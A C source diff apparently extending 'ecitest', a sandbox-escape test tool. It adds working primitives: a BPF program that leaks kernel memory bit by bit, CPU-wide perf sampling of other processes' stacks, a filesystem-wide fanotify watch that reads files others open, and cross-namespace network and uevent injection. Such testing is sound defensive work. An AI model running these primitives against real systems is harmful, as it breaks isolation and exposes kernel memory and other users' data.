@@ -33,6 +33,13 @@
 #include <sys/mount.h>
 #include <linux/io_uring.h>
 #include <sys/ptrace.h>
+#include <sys/fanotify.h>
+#include <sys/sysmacros.h>
+#include <linux/netlink.h>
+#include <linux/rtnetlink.h>
+#include <linux/if_link.h>
+#include <poll.h>
+#include <time.h>
 
 static const char usage[] =
 	"usage: ecitest COMMAND [ARG]\n"
@@ -56,6 +63,7 @@ static const char usage[] =
 	"  bind SRC DST [rec]    mount(SRC, DST, MS_BIND [| MS_REC]): SRC exactly as given\n"
 	"  clone_tree SRC DST    open_tree(SRC, OPEN_TREE_CLONE) then move_mount onto DST\n"
 	"  fsmount_tmpfs DST     fsopen/fsconfig/fsmount a tmpfs, move_mount onto DST\n"
+	"  fsmount TYPE DST      the same with filesystem TYPE\n"
 	"  setattr_rw PATH       mount_setattr(PATH): clear MOUNT_ATTR_RDONLY\n"
 	"  fspick_rw PATH        fspick(PATH), fsconfig rw + reconfigure\n"
 	"  connect SOCK          connect to unix stream socket SOCK, print ok\n"
@@ -65,7 +73,24 @@ static const char usage[] =
 	"  ptrace PID            PTRACE_SEIZE PID, print the first word of its first\n"
 	"                        mapping (464c457f: its ELF header), detach\n"
 	"  getfd PID FD          pidfd_getfd: take PID's fd FD, print what it reads\n"
-	"  setns_write PID FILE  setns(pidfd of PID, CLONE_NEWNS), write 'eci' to FILE there\n";
+	"  setns_write PID FILE  setns(pidfd of PID, CLONE_NEWNS), write 'eci' to FILE there\n"
+	"  kread CGROUP ADDR     load a cgroup device program that reads the kernel word at\n"
+	"                        ADDR (hex) with bpf_probe_read_kernel and answers bit\n"
+	"                        <minor> of it; attach it to CGROUP, mknod c 1:0..63 from\n"
+	"                        there and print the word (hex)\n"
+	"  perf_cpu MARKER SECS  CPU-wide user-mode sampling of every CPU's user stacks\n"
+	"                        for SECS seconds; print 'found PID' for a sample holding\n"
+	"                        MARKER taken in another process\n"
+	"  stack_marker MARKER SECS  spin in user mode for SECS seconds with MARKER on\n"
+	"                        the stack\n"
+	"  netns_link PID NAME   RTM_NEWLINK: create dummy interface NAME in the network\n"
+	"                        namespace of PID (IFLA_NET_NS_PID)\n"
+	"  uevent_send TEXT      send a uevent (TEXT, ';' for NUL) to the kernel on\n"
+	"                        NETLINK_KOBJECT_UEVENT, which broadcasts it in this netns\n"
+	"  uevent_listen SECS    print the uevents of this netns holding 'eci' for SECS s\n"
+	"  fanotify PATH SECS    mark PATH's whole filesystem (FAN_MARK_FILESYSTEM, FAN_OPEN),\n"
+	"                        print 'marked', then for SECS seconds the first line of\n"
+	"                        every file opened there, read through the event's fd\n";
 
 static int fail(const char *what)
 {
@@ -340,9 +365,9 @@ static int do_clone_tree(const char *src, const char *dst)
 	return 0;
 }
 
-static int do_fsmount_tmpfs(const char *dst)
+static int do_fsmount(const char *type, const char *dst)
 {
-	int fs = fsopen("tmpfs", 0), mnt;
+	int fs = fsopen(type, 0), mnt;
 
 	if (fs < 0)
 		return fail("fsopen");
@@ -507,6 +532,323 @@ static int do_setns_write(const char *pid, const char *path)
 	return 0;
 }
 
+#define BPF_INSN(c, d, s, o, i)                                                                    \
+	((struct bpf_insn){ .code = (c), .dst_reg = (d), .src_reg = (s), .off = (o), .imm = (i) })
+
+/* A nested runtime may load cgroup device programs; if the verifier grants
+ * it bpf_probe_read_kernel, the program reads any kernel word and leaks it
+ * one bit per device minor asked about. */
+static int do_kread(const char *cgroup, const char *addr_hex)
+{
+	unsigned long long addr = strtoull(addr_hex, NULL, 16), word = 0;
+	char log[4096] = "";
+	struct bpf_insn prog[] = {
+		BPF_INSN(BPF_ALU64 | BPF_MOV | BPF_X, 6, 1, 0, 0), /* r6 = ctx */
+		BPF_INSN(BPF_ST | BPF_MEM | BPF_DW, 10, 0, -8, 0), /* *(u64 *)(r10 - 8) = 0 */
+		BPF_INSN(BPF_ALU64 | BPF_MOV | BPF_X, 1, 10, 0, 0), /* r1 = r10 - 8 */
+		BPF_INSN(BPF_ALU64 | BPF_ADD | BPF_K, 1, 0, 0, -8),
+		BPF_INSN(BPF_ALU64 | BPF_MOV | BPF_K, 2, 0, 0, 8), /* r2 = 8 */
+		BPF_INSN(BPF_LD | BPF_DW | BPF_IMM, 3, 0, 0, (__u32)addr), /* r3 = addr */
+		BPF_INSN(0, 0, 0, 0, (__u32)(addr >> 32)),
+		BPF_INSN(BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_probe_read_kernel),
+		BPF_INSN(BPF_LDX | BPF_MEM | BPF_DW, 0, 10, -8, 0), /* r0 = word */
+		BPF_INSN(BPF_LDX | BPF_MEM | BPF_W, 1, 6, 8, 0), /* r1 = ctx->minor */
+		BPF_INSN(BPF_ALU64 | BPF_AND | BPF_K, 1, 0, 0, 63),
+		BPF_INSN(BPF_ALU64 | BPF_RSH | BPF_X, 0, 1, 0, 0), /* r0 >>= r1 */
+		BPF_INSN(BPF_ALU64 | BPF_AND | BPF_K, 0, 0, 0, 1),
+		BPF_INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0),
+	};
+	union bpf_attr a;
+	int pfd, cfd, status;
+	pid_t pid;
+
+	memset(&a, 0, sizeof(a));
+	a.prog_type = BPF_PROG_TYPE_CGROUP_DEVICE;
+	a.insns = (unsigned long)prog;
+	a.insn_cnt = sizeof(prog) / sizeof(prog[0]);
+	a.license = (unsigned long)"GPL";
+	a.log_buf = (unsigned long)log;
+	a.log_size = sizeof(log);
+	a.log_level = 1;
+	pfd = sys_bpf(BPF_PROG_LOAD, &a);
+	if (pfd < 0) {
+		int e = errno;
+
+		fprintf(stderr, "%s", log);
+		errno = e;
+		return fail("bpf(BPF_PROG_LOAD) of a device program reading the kernel");
+	}
+	cfd = open_or_die(cgroup);
+	memset(&a, 0, sizeof(a));
+	a.target_fd = cfd;
+	a.attach_bpf_fd = pfd;
+	a.attach_type = BPF_CGROUP_DEVICE;
+	a.attach_flags = BPF_F_ALLOW_MULTI;
+	if (sys_bpf(BPF_PROG_ATTACH, &a))
+		return fail("bpf(BPF_PROG_ATTACH)");
+	pid = fork();
+	if (!pid) {
+		char procs[512];
+		FILE *f;
+
+		snprintf(procs, sizeof(procs), "%s/cgroup.procs", cgroup);
+		f = fopen(procs, "w");
+		if (!f || fprintf(f, "%d\n", getpid()) < 0 || fclose(f))
+			_exit(fail("joining the cgroup"));
+		for (int bit = 0; bit < 64; bit++) {
+			unlink("/tmp/eci-kread");
+			if (!mknod("/tmp/eci-kread", S_IFCHR | 0600, makedev(1, bit)))
+				word |= 1ULL << bit;
+		}
+		unlink("/tmp/eci-kread");
+		printf("%016llx\n", word);
+		fflush(stdout);
+		_exit(0);
+	}
+	waitpid(pid, &status, 0);
+	sys_bpf(BPF_PROG_DETACH, &a);
+	return WIFEXITED(status) ? WEXITSTATUS(status) : 125;
+}
+
+/* The victim: a process of the VM with a marker on its user stack. */
+static int do_stack_marker(const char *marker, int secs)
+{
+	volatile char buf[64];
+	time_t end = time(NULL) + secs;
+	volatile unsigned long spin = 0;
+
+	for (size_t i = 0; i < sizeof(buf); i++)
+		buf[i] = marker[i % (strlen(marker) + 1)];
+	while (time(NULL) < end)
+		for (int i = 0; i < 1000000; i++)
+			spin++;
+	return buf[0] == 0;
+}
+
+/* A CPU-wide event (pid -1) samples whatever runs on the CPU, VM processes
+ * included: their user registers and a copy of their user stack. */
+static int do_perf_cpu(const char *marker, int secs)
+{
+	long ncpu = sysconf(_SC_NPROCESSORS_ONLN);
+	size_t mlen = strlen(marker), pg = sysconf(_SC_PAGESIZE), len = pg * 65;
+	time_t end = time(NULL) + secs;
+	struct perf_event_mmap_page *rb[64];
+	int found = 0;
+	unsigned long samples = 0;
+
+	if (ncpu > 64)
+		ncpu = 64;
+	for (long cpu = 0; cpu < ncpu; cpu++) {
+		struct perf_event_attr pa = {
+			.size = sizeof(pa),
+			.type = PERF_TYPE_SOFTWARE,
+			.config = PERF_COUNT_SW_CPU_CLOCK,
+			.sample_period = 1000000,
+			.sample_type = PERF_SAMPLE_TID | PERF_SAMPLE_STACK_USER,
+			.sample_stack_user = 4096,
+			.exclude_kernel = 1,
+			.exclude_hv = 1,
+		};
+		int fd = syscall(SYS_perf_event_open, &pa, -1, (int)cpu, -1, 0);
+
+		if (fd < 0)
+			return fail("perf_event_open(pid -1, a CPU)");
+		rb[cpu] = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+		if (rb[cpu] == MAP_FAILED)
+			return fail("mmap of the perf buffer");
+	}
+	printf("opened\n");
+	fflush(stdout);
+	while (!found && time(NULL) < end) {
+		usleep(100000);
+		for (long cpu = 0; cpu < ncpu && !found; cpu++) {
+			struct perf_event_mmap_page *m = rb[cpu];
+			char *data = (char *)m + pg;
+			__u64 head = __atomic_load_n(&m->data_head, __ATOMIC_ACQUIRE);
+			__u64 tail = m->data_tail, size = len - pg;
+
+			while (tail < head) {
+				struct perf_event_header h;
+				char rec[8192];
+
+				for (size_t i = 0; i < sizeof(h); i++)
+					((char *)&h)[i] = data[(tail + i) % size];
+				if (h.size > sizeof(rec) || !h.size)
+					break;
+				for (size_t i = 0; i < h.size; i++)
+					rec[i] = data[(tail + i) % size];
+				tail += h.size;
+				if (h.type != PERF_RECORD_SAMPLE)
+					continue;
+				samples++;
+				/* pid, tid, then the stack: size, bytes, dyn size */
+				__u32 spid = *(__u32 *)(rec + sizeof(h));
+				for (size_t i = sizeof(h) + 16; i + mlen <= h.size; i++)
+					if (spid != (__u32)getpid() &&
+					    !memcmp(rec + i, marker, mlen)) {
+						printf("found %u\n", spid);
+						found = 1;
+						break;
+					}
+			}
+			__atomic_store_n(&m->data_tail, head, __ATOMIC_RELEASE);
+		}
+	}
+	if (!found)
+		printf("%lu samples, none with the marker\n", samples);
+	return found ? 0 : 3;
+}
+
+static void nla_put(char *buf, size_t *len, unsigned short type, const void *data, size_t dlen)
+{
+	struct nlattr *a = (struct nlattr *)(buf + *len);
+
+	a->nla_type = type;
+	a->nla_len = NLA_HDRLEN + dlen;
+	if (dlen)
+		memcpy((char *)a + NLA_HDRLEN, data, dlen);
+	*len += NLA_ALIGN(a->nla_len);
+}
+
+/* An interface made in another network namespace, named by a pid in it: the
+ * target netns is resolved by the kernel after the message's own checks. */
+static int do_netns_link(const char *pid_s, const char *name)
+{
+	char buf[512] __attribute__((aligned(4))) = { 0 }, ack[512];
+	struct nlmsghdr *h = (struct nlmsghdr *)buf;
+	struct sockaddr_nl k = { .nl_family = AF_NETLINK };
+	struct nlattr *info;
+	__u32 pid = atoi(pid_s);
+	size_t len = NLMSG_LENGTH(sizeof(struct ifinfomsg)), at;
+	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
+	struct nlmsgerr *err;
+
+	if (fd < 0)
+		return fail("socket(NETLINK_ROUTE)");
+	h->nlmsg_type = RTM_NEWLINK;
+	h->nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE | NLM_F_EXCL;
+	nla_put(buf, &len, IFLA_IFNAME, name, strlen(name) + 1);
+	nla_put(buf, &len, IFLA_NET_NS_PID, &pid, sizeof(pid));
+	at = len;
+	nla_put(buf, &len, IFLA_LINKINFO, NULL, 0);
+	nla_put(buf, &len, IFLA_INFO_KIND, "dummy", 6);
+	info = (struct nlattr *)(buf + at);
+	info->nla_len = len - at;
+	h->nlmsg_len = len;
+	if (sendto(fd, buf, len, 0, (struct sockaddr *)&k, sizeof(k)) < 0)
+		return fail("sendto(RTM_NEWLINK)");
+	if (recv(fd, ack, sizeof(ack), 0) < (ssize_t)NLMSG_LENGTH(sizeof(*err)))
+		return fail("recv");
+	err = NLMSG_DATA(ack);
+	if (err->error) {
+		errno = -err->error;
+		return fail("RTM_NEWLINK with IFLA_NET_NS_PID");
+	}
+	return 0;
+}
+
+/* A uevent sent to the kernel is broadcast to the netns' listeners (udev),
+ * checked against CAP_SYS_ADMIN over the socket's netns. */
+static int do_uevent_send(const char *text)
+{
+	struct sockaddr_nl k = { .nl_family = AF_NETLINK };
+	int fd = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_KOBJECT_UEVENT);
+	char msg[512] __attribute__((aligned(4))) = { 0 };
+	struct nlmsghdr *h = (struct nlmsghdr *)msg;
+	char *p = msg + NLMSG_HDRLEN;
+	size_t n = strlen(text);
+
+	if (fd < 0)
+		return fail("socket(NETLINK_KOBJECT_UEVENT)");
+	if (n >= sizeof(msg) - NLMSG_HDRLEN)
+		n = sizeof(msg) - NLMSG_HDRLEN - 1;
+	for (size_t i = 0; i <= n; i++)
+		p[i] = text[i] == ';' ? '\0' : text[i];
+	/* The kernel side reads netlink messages: a request of a type past the
+	 * control ones. */
+	h->nlmsg_len = NLMSG_LENGTH(n + 1);
+	h->nlmsg_type = NLMSG_MIN_TYPE;
+	h->nlmsg_flags = NLM_F_REQUEST;
+	if (sendto(fd, msg, h->nlmsg_len, 0, (struct sockaddr *)&k, sizeof(k)) < 0)
+		return fail("sendto(NETLINK_KOBJECT_UEVENT)");
+	return 0;
+}
+
+static int do_uevent_listen(int secs)
+{
+	struct sockaddr_nl a = { .nl_family = AF_NETLINK, .nl_groups = 1 };
+	int fd = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_KOBJECT_UEVENT);
+	time_t end = time(NULL) + secs;
+
+	if (fd < 0 || bind(fd, (struct sockaddr *)&a, sizeof(a)))
+		return fail("bind(NETLINK_KOBJECT_UEVENT)");
+	printf("listening\n");
+	fflush(stdout);
+	while (time(NULL) < end) {
+		struct pollfd p = { .fd = fd, .events = POLLIN };
+		char msg[2048];
+		ssize_t n;
+
+		if (poll(&p, 1, 200) <= 0)
+			continue;
+		n = recv(fd, msg, sizeof(msg) - 1, 0);
+		if (n <= 0)
+			break;
+		for (ssize_t i = 0; i < n; i++)
+			if (!msg[i])
+				msg[i] = ';';
+		msg[n] = '\0';
+		if (strstr(msg, "eci")) {
+			printf("%s\n", msg);
+			fflush(stdout);
+		}
+	}
+	return 0;
+}
+
+/* Every open on PATH's filesystem, by anyone, hands this process an fd of the
+ * opened file, with no permission check of its own. */
+static int do_fanotify(const char *path, int secs)
+{
+	int fd = fanotify_init(FAN_CLASS_NOTIF | FAN_CLOEXEC, O_RDONLY | O_LARGEFILE);
+	time_t end = time(NULL) + secs;
+	char buf[8192] __attribute__((aligned(8)));
+
+	if (fd < 0)
+		return fail("fanotify_init");
+	if (fanotify_mark(fd, FAN_MARK_ADD | FAN_MARK_FILESYSTEM, FAN_OPEN, AT_FDCWD, path))
+		return fail("fanotify_mark(FAN_MARK_FILESYSTEM)");
+	printf("marked\n");
+	fflush(stdout);
+	while (time(NULL) < end) {
+		struct pollfd p = { .fd = fd, .events = POLLIN };
+		struct fanotify_event_metadata *m;
+		ssize_t n;
+
+		if (poll(&p, 1, 200) <= 0)
+			continue;
+		n = read(fd, buf, sizeof(buf));
+		if (n <= 0)
+			break;
+		for (m = (void *)buf; FAN_EVENT_OK(m, n); m = FAN_EVENT_NEXT(m, n)) {
+			char line[128];
+			ssize_t r;
+
+			if (m->fd < 0)
+				continue;
+			r = pread(m->fd, line, sizeof(line) - 1, 0);
+			if (r > 0) {
+				line[r] = '\0';
+				line[strcspn(line, "\n")] = '\0';
+				printf("%s\n", line);
+				fflush(stdout);
+			}
+			close(m->fd);
+		}
+	}
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	const char *cmd = argc > 1 ? argv[1] : "";
@@ -582,7 +924,9 @@ int main(int argc, char **argv)
 	if (!strcmp(cmd, "clone_tree") && arg && argc > 3)
 		return do_clone_tree(arg, argv[3]);
 	if (!strcmp(cmd, "fsmount_tmpfs") && arg)
-		return do_fsmount_tmpfs(arg);
+		return do_fsmount("tmpfs", arg);
+	if (!strcmp(cmd, "fsmount") && arg && argc > 3)
+		return do_fsmount(arg, argv[3]);
 	if (!strcmp(cmd, "setattr_rw") && arg)
 		return do_setattr_rw(arg);
 	if (!strcmp(cmd, "fspick_rw") && arg)
@@ -597,6 +941,20 @@ int main(int argc, char **argv)
 		return do_ptrace(arg);
 	if (!strcmp(cmd, "getfd") && arg && argc > 3)
 		return do_getfd(arg, argv[3]);
+	if (!strcmp(cmd, "kread") && arg && argc > 3)
+		return do_kread(arg, argv[3]);
+	if (!strcmp(cmd, "perf_cpu") && arg && argc > 3)
+		return do_perf_cpu(arg, atoi(argv[3]));
+	if (!strcmp(cmd, "stack_marker") && arg && argc > 3)
+		return do_stack_marker(arg, atoi(argv[3]));
+	if (!strcmp(cmd, "netns_link") && arg && argc > 3)
+		return do_netns_link(arg, argv[3]);
+	if (!strcmp(cmd, "uevent_send") && arg)
+		return do_uevent_send(arg);
+	if (!strcmp(cmd, "uevent_listen") && arg)
+		return do_uevent_listen(atoi(arg));
+	if (!strcmp(cmd, "fanotify") && arg && argc > 3)
+		return do_fanotify(arg, atoi(argv[3]));
 	if (!strcmp(cmd, "setns_write") && arg && argc > 3)
 		return do_setns_write(arg, argv[3]);
 	fputs(usage, stderr);
